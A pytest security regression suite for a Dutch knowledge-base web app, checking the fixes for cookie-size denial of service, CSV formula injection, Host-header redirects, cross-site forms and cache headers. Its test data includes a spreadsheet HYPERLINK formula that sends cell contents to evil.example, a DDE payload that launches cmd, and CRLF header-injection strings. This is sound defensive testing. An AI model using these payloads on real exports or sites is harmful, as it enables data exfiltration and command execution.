"""What a hostile visitor tried, as real HTTP through the app (and one real uvicorn server).

One test (or a few) per finding of the security review: a large selection cookie or link,
formulas in CSV exports, page numbers that crashed the search page, the Host header in
redirects, cross-site forms, cookie and cache headers, protocol-relative Markdown links,
QR codes made again for every print view and a query string copied into every form.
Control characters in content are refused by the validator: tests/test_control_characters.py.
"""

from __future__ import annotations

import csv
import io
import statistics
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from fastapi import FastAPI
from fastapi.testclient import TestClient

from kennisbank.indexing.builder import build_index
from kennisbank.webapp import Settings, create_app
from kennisbank.webapp.pages.qr import qr_svg
from kennisbank.webapp.selection.cookie import MAX_ITEMS

from .helpers import (
    CONTENT,
    PLAIN_BODY,
    TAXONOMY,
    assert_security_headers,
    case_slugs,
    make_client,
    soup,
)
from .live import LiveServer, free_socket

SLUGS = case_slugs()
CASE = SLUGS[0]


def big_cookie(min_bytes: int = 64 * 1024) -> str:
    """A selection cookie of distinct short slugs (about 14,000 of them in 64 KB)."""
    parts: list[str] = []
    size = 0
    while size < min_bytes:
        parts.append(f"{len(parts):x}")
        size += len(parts[-1]) + 1
    return ",".join(parts)


def median_seconds(request: Callable[[], httpx.Response], runs: int = 5) -> float:
    times = []
    for _ in range(runs):
        started = time.perf_counter()
        request()
        times.append(time.perf_counter() - started)
    return statistics.median(times)


# --- 1. A large selection cookie or link -----------------------------------------------------


def test_the_selection_parser_keeps_order_drops_repeats_and_stops_at_the_limit() -> None:
    from kennisbank.webapp.selection.cookie import parse_selection

    assert parse_selection([f"b,a,,b,<x>,{CASE}, a "]) == ["b", "a", CASE]
    many = [f"s{i}" for i in range(500)]
    assert parse_selection(many) == many[:MAX_ITEMS]
    assert parse_selection([",".join(many)]) == many[:MAX_ITEMS]
    # Input past what a full selection can take is never read.
    assert parse_selection(["x" * 100_000 + "," + CASE]) == []


def test_a_64_kb_selection_cookie_costs_under_50_ms(client: TestClient) -> None:
    cookie = big_cookie()
    assert len(cookie) >= 64 * 1024 and cookie.count(",") >= 13_000
    with_cookie = {"Cookie": f"selectie={cookie}"}
    plain = median_seconds(lambda: client.get("/bestaat-niet"))
    loaded = median_seconds(lambda: client.get("/bestaat-niet", headers=with_cookie))
    assert client.get("/bestaat-niet", headers=with_cookie).status_code == 404
    assert loaded - plain < 0.050, (plain, loaded)

    page = soup(client.get("/selectie", headers=with_cookie))
    assert page.select_one(".badge").get_text() == str(MAX_ITEMS)


def test_a_64_kb_shared_link_costs_under_50_ms(client: TestClient) -> None:
    junk = "&".join(f"s={i:x}" for i in range(9_000))  # httpx refuses URLs over 64 KB
    url = f"/selectie?s={CASE}&{junk}"
    plain = median_seconds(lambda: client.get(f"/selectie?s={CASE}"))
    loaded = median_seconds(lambda: client.get(url))
    assert loaded - plain < 0.050, (plain, loaded)
    page = soup(client.get(url))
    assert len(page.select(".collection-list > li")) == 1  # 60 slugs read, one is a case
    assert len(page.select_one('a[href^="/selectie/afdrukken"]')["href"]) < 1000


@pytest.fixture(scope="module")
def live_server(web_index: Path) -> Any:
    sock, url = free_socket()
    app = create_app(Settings(content=CONTENT, index=web_index, reload_interval=0))
    with LiveServer(sock, app, lifespan="on"):  # two request threads, as served
        yield url


def test_healthz_stays_fast_while_four_64_kb_cookie_requests_run(live_server: str) -> None:
    cookie = {"Cookie": f"selectie={big_cookie()}"}
    statuses: list[int] = []

    def heavy() -> None:
        with httpx.Client(base_url=live_server, timeout=120) as c:
            statuses.append(c.get("/selectie", headers=cookie).status_code)

    with httpx.Client(base_url=live_server, timeout=120) as probe:
        probe.get("/healthz")
        threads = [threading.Thread(target=heavy) for _ in range(4)]
        started = time.perf_counter()
        for thread in threads:
            thread.start()
        slowest = 0.0
        while any(t.is_alive() for t in threads) or slowest == 0.0:
            asked = time.perf_counter()
            assert probe.get("/healthz").status_code == 200
            slowest = max(slowest, time.perf_counter() - asked)
        for thread in threads:
            thread.join()
        wall = time.perf_counter() - started
    assert statuses == [200] * 4
    assert slowest < 1.0, slowest  # before the fix: 6.6 s at 62 KB
    assert wall < 5.0, wall


# --- 2. Formulas in CSV exports ----------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&A1;"klik")'
FORMULA_NOTES = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "  =1+1"]
ATTACK_CASE = "formule-in-titel"
ATTACK_COLLECTION = "formules"
EXTERNAL_LINK_LINE = "Zie [dit verslag](//evil.example/verslag) en [hier](/zoeken).\n"


def _write_attack_tree(root: Path) -> Path:
    (root / "cases").mkdir(parents=True)
    (root / "collections").mkdir()
    (root / "taxonomy.yml").write_text(TAXONOMY.read_text("utf-8"), "utf-8")
    case = {
        "title": FORMULA_TITLE,
        "summary": "@Samenvatting die met een apenstaartje begint, en lang genoeg is.",
        "principles": ["bestaanszekerheid"],
        "regions": ["utrecht"],
        "partners": ["gemeente"],
        "contact": "=1+1",
    }
    head = yaml.safe_dump(case, allow_unicode=True, sort_keys=False)
    body = PLAIN_BODY + "\n" + EXTERNAL_LINK_LINE
    (root / "cases" / f"{ATTACK_CASE}.md").write_text(f"---\n{head}---\n{body}", "utf-8")
    collection = {
        "title": "Collectie met formules",
        "cases": [{"slug": ATTACK_CASE, "note": note} for note in FORMULA_NOTES[:1]],
    }
    head = yaml.safe_dump(collection, allow_unicode=True, sort_keys=False)
    path = root / "collections" / f"{ATTACK_COLLECTION}.md"
    path.write_text(f"---\n{head}---\nInleiding.\n", "utf-8")
    return root


@pytest.fixture(scope="module")
def attack_app(tmp_path_factory: pytest.TempPathFactory) -> FastAPI:
    root = tmp_path_factory.mktemp("attack")
    content = _write_attack_tree(root / "content")
    build_index(content, root / "index")
    return create_app(Settings(content=content, index=root / "index", reload_interval=0))


def csv_rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text)))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r"), row


def test_collection_csv_export_defuses_formulas(attack_app: FastAPI) -> None:
    rows = csv_rows(make_client(attack_app).get(f"/collecties/{ATTACK_COLLECTION}/export.csv"))
    assert_no_formula(rows)
    header, row = rows[0], rows[1]
    assert row[header.index("titel")] == "'" + FORMULA_TITLE
    assert row[header.index("notitie")] == "'" + FORMULA_NOTES[0]


def test_every_csv_export_defuses_formulas(attack_app: FastAPI) -> None:
    rows = csv_rows(make_client(attack_app).get("/export/cases.csv"))
    assert_no_formula(rows)
    header, row = rows[0], rows[1]
    assert row[header.index("title")] == "'" + FORMULA_TITLE
    assert row[header.index("contact")] == "'=1+1"


def test_the_csv_writer_defuses_every_formula_start() -> None:
    from kennisbank.webapp.exports.csv_export import csv_cell

    for note in FORMULA_NOTES:
        assert csv_cell(note) == "'" + note
    assert csv_cell(["=a", "b"]) == "'=a; b"
    assert csv_cell("Gewone tekst - met streepje") == "Gewone tekst - met streepje"
    assert csv_cell(2021) == "2021"


# --- 3. Page numbers and other parameters: never a 5xx, always the headers --------------------

ODD_NUMBERS = ["%C2%B2", "%C2%B3", "%C2%B9", "%E2%91%A0", "%E2%82%82", "9" * 4301, "-1", "0"]
ODD_NUMBERS += ["1e3", "%20 2", "%00", "%EF%BC%92", "", "1000", "999999999999999999999"]


@pytest.mark.parametrize("value", ODD_NUMBERS)
def test_odd_page_numbers_give_the_first_page(web_app: FastAPI, value: str) -> None:
    client = TestClient(web_app, raise_server_exceptions=False)
    response = client.get(f"/zoeken?q=schulden&pagina={value}")
    assert response.status_code == 200, response.text[:200]
    assert_security_headers(response)
    assert soup(response).select_one("ol.results, .results") is not None


def test_no_parameter_value_gives_a_5xx(web_app: FastAPI) -> None:
    client = TestClient(web_app, raise_server_exceptions=False)
    paths = [
        "/zoeken?q={v}&principe={v}&regio={v}&partner={v}&pagina={v}",
        "/api/search?q={v}&k={v}&offset={v}&region={v}",
        "/api/cases?offset={v}&limit={v}",
        "/selectie?s={v}",
        "/selectie/collectie.md?titel={v}&beschrijving={v}&s={v}",
        "/voorbeelden/{v}",
        "/collecties/{v}/export.{v}",
    ]
    values = [*ODD_NUMBERS, "%FF%FE", "%ED%A0%80", "%0D%0ASet-Cookie:x=1", "a" * 5000]
    for path in paths:
        for value in values:
            response = client.get(path.format(v=value))
            assert response.status_code < 500, (path, value, response.status_code)
            assert "set-cookie" not in response.headers
            assert_security_headers(response)


def test_a_server_error_page_is_dutch_and_carries_the_security_headers(
    web_settings: Settings,
) -> None:
    app = create_app(web_settings)

    def broken() -> None:
        raise RuntimeError("/srv/geheim/pad lekt niet")

    app.add_api_route("/kapot", broken)
    app.add_api_route("/api/kapot", broken)
    client = TestClient(app, raise_server_exceptions=False)
    page = client.get("/kapot")
    assert page.status_code == 500
    assert page.headers["content-type"].startswith("text/html")
    assert_security_headers(page)
    assert "Er ging iets mis" in soup(page).h1.get_text()
    assert "geheim" not in page.text
    api = client.get("/api/kapot")
    assert api.status_code == 500 and "geheim" not in api.text
    assert_security_headers(api)


# --- 4. The Host header never ends up in a redirect -----------------------------------------


@pytest.mark.parametrize("path", [f"/voorbeelden/{CASE}/", "/selectie/", "/collecties/?x=1"])
def test_trailing_slash_redirects_are_relative(client: TestClient, path: str) -> None:
    response = client.get(path, headers={"Host": "evil.example"}, follow_redirects=False)
    assert response.status_code in (307, 308), response.status_code
    location = response.headers["location"]
    assert location == path.replace("/?", "?").rstrip("/"), location
    assert "evil" not in location


@pytest.mark.parametrize("path", ["/static", "/static/", "/\\evil.example/", "/zoeken/"])
def test_no_answer_names_another_host(client: TestClient, path: str) -> None:
    response = client.get(path, headers={"Host": "evil.example"}, follow_redirects=False)
    assert "evil" not in response.headers.get("location", "")
    assert response.status_code in (307, 404), response.status_code
    if response.status_code == 307:
        assert (
            response.headers["location"].startswith("/")
            and "//" not in response.headers["location"]
        )


def test_a_slug_of_a_control_character_is_not_a_trailing_slash(client: TestClient) -> None:
    # request.url drops "\r": "/api/cases/%0D" must not be redirected to the list.
    response = client.get("/api/cases/%0D", follow_redirects=False)
    assert response.status_code == 404, response.headers.get("location")


def test_trusted_hosts_refuse_other_hosts_but_not_the_health_check(web_index: Path) -> None:
    settings = Settings(
        content=CONTENT,
        index=web_index,
        reload_interval=0,
        trusted_hosts="kennisbank.example.nl, *.kennisbank.test",
    )
    client = make_client(create_app(settings))
    assert client.get("/", headers={"Host": "evil.example"}).status_code == 400
    assert client.get("/", headers={"Host": "kennisbank.example.nl"}).status_code == 200
    assert client.get("/", headers={"Host": "www.kennisbank.test:8443"}).status_code == 200
    assert client.get("/healthz", headers={"Host": "10.0.0.5"}).status_code == 200


# --- 6. Cross-site forms ------------------------------------------------------------------------


def post_selection(client: TestClient, headers: dict[str, str]) -> httpx.Response:
    return client.post(
        "/selectie",
        data={"actie": "leegmaken", "slug": "", "terug": "/selectie"},
        headers=headers,
        follow_redirects=False,
    )


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"},
        {"Sec-Fetch-Site": "same-site"},
        {"Sec-Fetch-Site": "cross-site"},
    ],
)
def test_a_cross_site_form_cannot_change_the_selection(
    client: TestClient, headers: dict[str, str]
) -> None:
    client.cookies.set("selectie", CASE)
    response = post_selection(client, headers)
    assert response.status_code == 403
    assert "set-cookie" not in response.headers
    assert "andere website" in soup(response).get_text()
    assert soup(client.get("/selectie")).select_one(".badge").get_text() == "1"


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Sec-Fetch-Site": "same-origin", "Origin": "http://testserver"},
        {"Origin": "http://testserver"},
        {"Origin": "https://kennisbank.example.nl"},  # the public address (BASE_URL)
        {"Sec-Fetch-Site": "none"},
    ],
)
def test_a_form_from_this_site_changes_the_selection(
    client: TestClient, headers: dict[str, str]
) -> None:
    client.cookies.set("selectie", CASE)
    response = post_selection(client, headers)
    assert response.status_code == 303
    cookies = response.headers.get_list("set-cookie")
    assert any(cookie.startswith('selectie="";') for cookie in cookies), cookies


# --- 7. The cookie and caches ---------------------------------------------------------------------


def add(client: TestClient) -> httpx.Response:
    return client.post(
        "/selectie", data={"actie": "toevoegen", "slug": CASE}, follow_redirects=False
    )


def test_the_selection_cookie_is_secure_behind_https(web_app: FastAPI) -> None:
    assert "secure" not in add(make_client(web_app)).headers["set-cookie"].lower()
    https = TestClient(web_app, base_url="https://testserver")
    assert "; secure" in add(https).headers["set-cookie"].lower()
    # A proxy that passes only Host on: the request is for the https public address.
    public = TestClient(web_app, base_url="http://kennisbank.example.nl")
    assert "; secure" in add(public).headers["set-cookie"].lower()


@pytest.mark.parametrize(
    "path", ["/selectie", f"/selectie?s={CASE}", f"/selectie/afdrukken?s={CASE}"]
)
def test_selection_pages_are_never_stored(client: TestClient, path: str) -> None:
    response = client.get(path)
    assert response.headers["cache-control"] == "private, no-store"
    assert "Cookie" in response.headers["vary"]
    assert add(client).headers["cache-control"] == "private, no-store"


def test_pages_vary_on_the_cookie_and_are_private_with_a_selection(client: TestClient) -> None:
    plain = client.get(f"/voorbeelden/{CASE}")
    assert "Cookie" in plain.headers["vary"]
    assert "cache-control" not in plain.headers
    client.cookies.set("selectie", CASE)
    for path in ("/", f"/voorbeelden/{CASE}", "/collecties"):
        response = client.get(path)
        assert "Cookie" in response.headers["vary"]
        assert response.headers["cache-control"].startswith("private")


# --- 8. Smaller findings ------------------------------------------------------------------------


def test_the_feed_stays_well_formed_xml(attack_app: FastAPI) -> None:
    from xml.etree import ElementTree

    feed = ElementTree.fromstring(make_client(attack_app).get("/feed.xml").content)
    titles = [e.text for e in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert FORMULA_TITLE in titles


def test_a_protocol_relative_markdown_link_is_external(attack_app: FastAPI) -> None:
    page = soup(make_client(attack_app).get(f"/voorbeelden/{ATTACK_CASE}"))
    outside = page.select_one('a[href="//evil.example/verslag"]')
    assert outside is not None and outside.get("rel") == ["nofollow", "noopener"]
    inside = page.select_one('main a[href="/zoeken"]')
    assert inside is not None and inside.get("rel") is None


def test_qr_codes_are_made_once_per_url(client: TestClient) -> None:
    url = f"https://kennisbank.example.nl/voorbeelden/{CASE}"
    assert qr_svg(url) is qr_svg(url)
    before = qr_svg.cache_info().hits
    query = "&".join(f"s={s}" for s in SLUGS)
    for _ in range(2):
        assert client.get(f"/selectie/afdrukken?{query}").status_code == 200
    assert qr_svg.cache_info().hits - before >= len(SLUGS)


def test_a_long_query_string_is_not_copied_into_every_form(client: TestClient) -> None:
    long = "a" * 55_000
    response = client.get(f"/zoeken?q=hulp+bij+schulden&x={long}")
    backs = [field["value"] for field in soup(response).select('input[name="terug"]')]
    assert backs, "the results have no select buttons"
    assert all(len(value) <= 2000 for value in backs)
    assert len(response.content) < 200_000, len(response.content)
    short = soup(client.get("/zoeken?q=hulp+bij+schulden")).select('input[name="terug"]')
    assert short[0]["value"] == "/zoeken?q=hulp+bij+schulden"


@pytest.mark.parametrize(
    "target", ["/\\evil.example/", "/zoeken\r\nSet-Cookie: x=1", "/" + "a" * 3000]
)
def test_the_back_field_never_leaves_the_site(client: TestClient, target: str) -> None:
    response = client.post(
        "/selectie",
        data={"actie": "toevoegen", "slug": CASE, "terug": target},
        follow_redirects=False,
    )
    # the fallback page, at the changed case's anchor (issue 14: adding keeps your place)
    assert response.headers["location"] == f"/selectie#r-{CASE}"


def test_build_errors_on_public_pages_name_paths_inside_the_content_folder(
    private_app: Any,
) -> None:
    from kennisbank.webapp.operations.watch import rebuild

    app, settings, _ = private_app
    path = settings.content / "cases" / f"{CASE}.md"
    path.write_text(path.read_text("utf-8").replace("regions: [", "regions: [nergens, "), "utf-8")
    rebuild(app.state.holder, settings)
    assert app.state.holder.problems
    notice = soup(make_client(app).get("/")).select_one("section.notice-error").get_text()
    assert f"cases/{CASE}.md:" in notice
    assert str(settings.content.resolve()) not in notice
    assert str(settings.content.parent) not in notice
